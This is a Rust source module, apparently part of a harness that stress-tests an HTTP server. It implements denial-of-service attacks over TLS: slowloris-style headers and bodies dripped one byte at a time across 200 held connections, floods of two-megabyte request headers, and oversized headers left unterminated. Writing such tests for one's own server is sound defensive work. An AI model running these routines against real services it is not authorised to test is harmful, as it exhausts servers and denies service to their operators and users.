//! Attacks with one request at a time.

use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::time::sleep;

use crate::attacker::{Attacker, HTTP1, drain};

const HELD: usize = 200;
const DRIP: Duration = Duration::from_millis(100);

/// Heads that come byte by byte.
pub(super) async fn slow_heads(attacker: Attacker) {
    drip(attacker, "GET /apis HTTP/1.1\r\nhost: x\r\nx-slow: ").await;
}

/// Bodies that come byte by byte.
pub(super) async fn slow_bodies(attacker: Attacker) {
    drip(attacker, "POST /apis HTTP/1.1\r\nhost: x\r\ncontent-length: 1000000\r\n\r\n").await;
}

async fn drip(attacker: Attacker, begin: &'static str) {
    let work = move |attacker: Attacker, _| async move {
        let mut stream = attacker.tls(HTTP1).await?;
        stream.write_all(begin.as_bytes()).await?;
        loop {
            stream.write_all(b"x").await?;
            stream.flush().await?;
            attacker.did();
            sleep(DRIP).await;
        }
    };
    attacker.many(HELD, work).await;
}

/// Heads of two megabytes: half of them many headers, half of them one.
pub(super) async fn header_flood(attacker: Attacker) {
    let work = |attacker: Attacker, number: usize| async move {
        let headers = if number.is_multiple_of(2) {
            "x-a: b\r\n".repeat(250_000)
        } else {
            format!("x-a: {}\r\n", "b".repeat(2_000_000))
        };
        loop {
            let mut stream = attacker.tls(HTTP1).await?;
            stream.write_all(b"GET /apis HTTP/1.1\r\nhost: x\r\n").await?;
            // It is cut off on the way.
            let _ = stream.write_all(headers.as_bytes()).await;
            drain(&mut stream).await;
            attacker.did();
        }
    };
    attacker.many(32, work).await;
}

/// Heads as long as they may be, but for their end.
pub(super) async fn long_heads_held(attacker: Attacker) {
    let work = |attacker: Attacker, _| async move {
        let mut stream = attacker.tls(HTTP1).await?;
        let head = format!("GET /apis HTTP/1.1\r\nhost: x\r\nx-a: {}", "b".repeat(60_000));
        stream.write_all(head.as_bytes()).await?;
        stream.flush().await?;
        attacker.did();
        attacker.hold(stream).await;
        Ok(())
    };
    attacker.many(HELD, work).await;
}
